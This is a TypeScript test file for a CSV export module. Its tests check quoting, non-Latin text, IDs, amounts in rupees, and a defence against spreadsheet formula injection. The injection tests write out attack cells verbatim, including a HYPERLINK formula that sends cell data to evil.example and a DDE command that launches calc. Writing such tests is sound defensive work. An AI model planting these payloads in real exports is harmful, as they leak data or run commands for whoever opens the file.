/** Our CSV as a spreadsheet, or any other reader of RFC 4180, reads it. */
import { describe, expect, test } from 'vitest';
import { type Cell, csvRow, idCell, programCsvRow, rupees, withoutApostrophe } from './csv.ts';
import { readCsv } from './testing/read-csv.ts';

const line = (...cells: Cell[]) => csvRow(cells).slice(0, -2);

describe('a text', () => {
  test.each([
    ['Asha Rao', 'Asha Rao'],
    ['', ''],
    ['Rao, Asha', '"Rao, Asha"'],
    ['Asha "Ashi" Rao', '"Asha ""Ashi"" Rao"'],
    ['"', '""""'],
    ['Flat 12\nMG Road', '"Flat 12\nMG Road"'],
    ['Flat 12\r\nMG Road', '"Flat 12\r\nMG Road"'],
    ['a;=1+1', '"a;=1+1"'],
    ['a\tb', '"a\tb"'],
    [' Asha ', '" Asha "'],
    ['आशा राव', 'आशा राव'],
    ['₹599 क्ष 👩‍🔬', '₹599 क्ष 👩‍🔬'],
    // A formula character inside the text is harmless.
    ['C-12, A=B', '"C-12, A=B"'],
    ['asha@example.in', 'asha@example.in'],
    ["O'Brien", "O'Brien"],
    ["'tis", "'tis"],
    ['9876543210', '9876543210'],
    ['560001', '560001'],
    ['0', '0'],
    ['12345678901', '12345678901'],
  ])('%j is written %j', (text, written) => expect(line(text)).toBe(written));
});

describe('a formula is written as text', () => {
  test.each([
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '+919876543210',
    '-2+3',
    '-120',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\tAsha',
    '\rAsha',
    '\nAsha',
    '\0=1',
    '  =1+1',
    '\u00a0=1+1',
    '"=1+1',
    "'=1+1",
    ' "\'+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '=',
  ])('%j', (text) => expect(line(text)).toBe(`"'${text.replaceAll('"', '""')}"`));
});

test.each(['098765', '00', '8901234567890', '18901234567897', '1234567890123456', ' 0123 '])(
  '%j keeps its digits',
  (text) => expect(line(text)).toBe(`"'${text}"`),
);

describe('a text that would become a date, a time or another number stays a text', () => {
  test.each([
    ...[
      '5-9-22',
      '3/4',
      '2-4',
      '10/10',
      '1.5.26',
      '12:30',
      '10:30 PM',
      '1 1/2',
      '5 - 9 - 22',
      '1,50',
      '1.50',
    ],
    ...['MAR1', 'Sept 2', '27 Nov', 'Nov-26', '12E5', '1e-7', '5-9\n22'],
  ])('%j', (text) => {
    expect(line(text)).toBe(`"'${text}"`);
    expect(withoutApostrophe(`'${text}`)).toBe(text);
  });

  test.each(['5-9-22, MG Road', '3/4 Cross', 'May', 'March to May', 'ORD-100001', 'MONSOON-10', 'A1'])(
    '%j has no apostrophe',
    (text) => expect(readCsv(`${line(text)}\r\n`)).toEqual([[text]]),
  );

  test('but not in a file for another program, which has no formulas either', () => {
    expect(programCsvRow(['5-9-22', '27-Nov-2026', '330499'])).toBe('5-9-22,27-Nov-2026,330499\r\n');
    expect(programCsvRow(['=1+1', '18901234567897'])).toBe(`"'=1+1","'18901234567897"\r\n`);
  });
});

describe('an id is a text', () => {
  test.each(['70123456789012', '9876543210', '560001', '7', '00123', '5-9', '12E5', '+919876543210'])(
    '%j',
    (id) => expect(line(idCell(id))).toBe(`"'${id}"`),
  );
  test.each([
    ['EM123456789IN', 'EM123456789IN'],
    ['SF 1, 2', '"SF 1, 2"'],
    ['', ''],
  ])('%j is %s', (id, written) => expect(line(idCell(id))).toBe(written));
  test('none is an empty cell', () => expect(line(idCell(null), 'x')).toBe(',x'));
});

test.each(["'tis", "O'Brien", "'Asha'", "'May cream'"])('%j keeps its apostrophe', (text) =>
  expect(withoutApostrophe(text)).toBe(text),
);

describe('numbers and times are written unchanged', () => {
  test.each<[Cell, string]>([
    [-120, '-120'],
    [0, '0'],
    [null, ''],
    [rupees(59_900), '599.00'],
    [rupees(5), '0.05'],
    [rupees(-12_050), '-120.50'],
    [rupees(-5), '-0.05'],
    [rupees(0), '0.00'],
    [rupees(123_456_789_01), '123456789.01'],
    [{ figure: '2026-11-21 14:31:07' }, '2026-11-21 14:31:07'],
  ])('%j is %s', (cell, written) => expect(line(cell)).toBe(written));
});

/** The same numbers in every run (mulberry32). */
function numbers(seed: number) {
  let state = seed;
  return (below: number): number => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) % below;
  };
}

test('every text can be read back, and no cell is a formula', () => {
  const next = numbers(2026);
  const parts = [
    '=',
    '+',
    '-',
    '@',
    "'",
    '"',
    ',',
    ';',
    '\r',
    '\n',
    '\t',
    ' ',
    '0',
    '7',
    'a',
    'आ',
    '👩‍🔬',
    '＝',
    '\0',
  ];
  const text = () => Array.from({ length: next(7) }, () => parts[next(parts.length)]).join('');
  // A row of one empty cell is an empty line, which a reader may take for none.
  const table = Array.from({ length: 2000 }, () => Array.from({ length: 2 + next(4) }, text));
  const read = readCsv(table.map(csvRow).join(''));
  // Without the apostrophe that the export has added.
  const bare = (cell: string) =>
    readCsv(csvRow(['', cell.slice(1)]))[0]?.[1] === cell ? cell.slice(1) : cell;
  expect(read.map((row) => row.map(bare))).toEqual(table);
  expect(read.flat().filter((cell) => /^[\s"\0]*[=+\-@＝＋－＠]|^[\t\r\n\0]/.test(cell))).toEqual([]);
});
